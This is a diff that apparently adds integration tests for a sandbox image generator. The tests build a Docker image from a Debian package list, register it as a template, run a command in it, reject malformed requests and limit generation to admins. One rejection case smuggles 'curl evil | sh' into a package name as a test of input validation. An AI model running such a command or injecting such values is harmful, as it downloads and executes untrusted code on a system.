@@ -1,0 +1,110 @@
+"""The sandbox image generator end to end: a real `mcpgw serve` (SQLite, the worker it
+starts itself), the Docker engine building the image from the Debian archive, the build
+log over SSE, the template registered, and a `docker` sandbox started from it."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import httpx
+import pytest
+
+from tests.integration.jobs.sse import read_events
+from tests.integration.sandboxes.conftest import BASE_IMAGE, ENGINE_HINT, docker_cli
+from tests.support import BOOT, Server, wait_for
+
+AUTH = {"Authorization": f"Bearer {BOOT}"}
+
+
+@pytest.fixture(scope="module")
+def gateway(module_server_factory: type[Server]) -> Server:
+    if docker_cli("info", timeout=20).returncode != 0:
+        pytest.fail(ENGINE_HINT)
+    if docker_cli("image", "inspect", BASE_IMAGE).returncode != 0:
+        pytest.fail(f"the base image {BASE_IMAGE} is missing: run scripts/docker-base-image.sh")
+    server = module_server_factory(MCPGW_BOOTSTRAP_API_KEY=BOOT, MCPGW_LOG_FORMAT="console")
+    server.wait_ready()
+    return server
+
+
+async def _finished(client: httpx.AsyncClient, job_id: str) -> dict[str, Any] | None:
+    job = (await client.get(f"/api/v1/jobs/{job_id}")).json()
+    return job if job["status"] in ("succeeded", "failed", "cancelled") else None
+
+
+async def test_a_package_list_becomes_a_template_the_docker_provider_runs(
+    gateway: Server,
+) -> None:
+    async with httpx.AsyncClient(base_url=gateway.url, headers=AUTH, timeout=60) as client:
+        r = await client.post(
+            "/api/v1/sandboxes/images/generate", json={"name": "jq-tools", "packages": ["jq"]}
+        )
+        assert r.status_code == 202, r.text
+        job_id = r.json()["job_id"]
+        events = await read_events(client, job_id, {}, timeout=600)
+        job = await wait_for(lambda: _finished(client, job_id), timeout=30)
+        assert job["status"] == "succeeded", job
+        result = job["result"]
+        assert result["template"] == "jq-tools" and result["image"].startswith("mcpgw-sandbox-gen-")
+        assert [p.split("=")[0] for p in result["packages"]] == ["jq"]
+        assert "=" in result["packages"][0]  # pinned to the version the build installed
+
+        kinds = [e.event for e in events]
+        assert kinds[-1] == "result" and "log" in kinds
+        artifacts = [e.data["name"] for e in events if e.event == "artifact"]
+        assert artifacts == ["Dockerfile", "packages"]
+        assert any("apt-get install" in str(e.data.get("message")) for e in events)
+
+        templates = {t["name"]: t for t in (await client.get("/api/v1/sandboxes/templates")).json()}
+        assert templates["jq-tools"]["image"] == result["image"]
+
+        r = await client.post(
+            "/api/v1/sandboxes", json={"template": "jq-tools", "provider": "docker"}, timeout=120
+        )
+        assert r.status_code == 201, r.text
+        sandbox = r.json()["id"]
+        try:
+            r = await client.post(
+                f"/api/v1/sandboxes/{sandbox}/exec",
+                json={"command": "id -u && echo '{\"a\": 42}' | jq .a"},
+                timeout=120,
+            )
+            assert r.status_code == 200, r.text
+            assert r.json()["stdout"].split() == ["1000", "42"]
+        finally:
+            await client.delete(f"/api/v1/sandboxes/{sandbox}", timeout=60)
+
+
+async def test_bad_requests_get_clear_errors_and_start_nothing(gateway: Server) -> None:
+    async with httpx.AsyncClient(base_url=gateway.url, headers=AUTH, timeout=30) as client:
+        before = (await client.get("/api/v1/jobs", params={"kind": "sandbox.image"})).json()
+        cases = [
+            ({"name": "x", "packages": ["jq; curl evil | sh"]}, 422, "Debian package"),
+            ({"name": "x", "packages": ["pip:requests"]}, 422, "exact version"),
+            ({"name": "Bad Name", "packages": ["jq"]}, 422, "name"),
+            ({"name": "x"}, 422, "either packages or a description"),
+            ({"name": "x", "packages": ["jq"], "description": "a tool box"}, 422, "either"),
+            ({"name": "x", "description": "python with numpy for data work"}, 409, "MCPGW_LLM"),
+        ]
+        for body, status, says in cases:
+            r = await client.post("/api/v1/sandboxes/images/generate", json=body)
+            assert r.status_code == status, (body, r.text)
+            assert says in r.json()["message"], r.text
+        after = (await client.get("/api/v1/jobs", params={"kind": "sandbox.image"})).json()
+        assert len(after["items"]) == len(before["items"])
+
+
+async def test_only_admins_may_generate_images(gateway: Server) -> None:
+    async with httpx.AsyncClient(base_url=gateway.url, headers=AUTH, timeout=30) as client:
+        r = await client.post("/api/v1/users", json={"email": "dev@x.io", "role": "developer"})
+        assert r.status_code == 201, r.text
+        body = {"name": "dev", "user_id": r.json()["id"]}
+        r = await client.post("/api/v1/keys", json=body)
+        assert r.status_code == 201, r.text
+        key = r.json()["key"]
+        r = await client.post(
+            "/api/v1/sandboxes/images/generate",
+            json={"name": "mine", "packages": ["jq"]},
+            headers={"Authorization": f"Bearer {key}"},
+        )
+    assert r.status_code == 403 and "only admins" in r.json()["message"]
